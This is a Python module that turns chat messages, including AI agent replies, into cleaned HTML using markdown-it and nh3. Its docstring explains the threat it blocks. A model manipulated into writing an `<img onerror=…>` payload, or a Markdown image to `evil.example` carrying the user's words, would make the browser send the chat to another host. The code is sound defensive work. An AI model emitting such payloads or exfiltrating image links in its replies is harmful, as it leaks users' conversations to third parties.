"""Chat text on the page: Markdown rendered to HTML (markdown-it), then cleaned (nh3), on the server.

An agent's reply is text a model wrote, and a model can be talked into writing `<img onerror=…>` or,
quieter, `![x](https://evil.example/?q=what the user said)`: an image the browser fetches by itself,
sending the chat to another host. So every chat message is rendered here and the page only ever inserts
this cleaned HTML: no scripts or event handlers, and nothing the browser would load on its own (no `src`,
`srcset`, `background`, `poster` or `style` anywhere, whatever the host). Links stay as links,
`rel="noopener noreferrer"`, followed only when the person clicks them. The page's Content-Security-Policy
(see `tobio.web.app`) refuses scripts and remote loads a second time.
"""

from __future__ import annotations

import nh3
from markdown_it import MarkdownIt

# Attributes that make a browser fetch something without a click (or style, whose url() does).
FETCHING = frozenset({"src", "srcset", "lowsrc", "dynsrc", "background", "poster", "style", "data", "codebase",
                      "longdesc", "usemap", "ping", "action", "formaction", "xlink:href", "manifest", "icon"})
_TAGS = set(nh3.ALLOWED_TAGS) - {"area", "map"}
_ATTRIBUTES = {tag: set(names) - FETCHING for tag, names in nh3.ALLOWED_ATTRIBUTES.items()}
_SCHEMES = {"http", "https", "mailto"}
MAX_RENDERED = 200_000  # characters of one message rendered; a longer one is cut (bounded work per update)

_markdown = MarkdownIt("commonmark", {"breaks": True, "html": True}).enable("table").enable("strikethrough")


def clean(markup: str) -> str:
    """HTML with no active content and no resource the browser would load by itself."""
    return nh3.clean(markup, tags=_TAGS, attributes=_ATTRIBUTES, url_schemes=_SCHEMES, strip_comments=True,
                     link_rel="noopener noreferrer")


def render(text: str) -> str:
    """One chat message as the page shows it: Markdown (line breaks kept), cleaned."""
    return clean(_markdown.render(text[:MAX_RENDERED]))
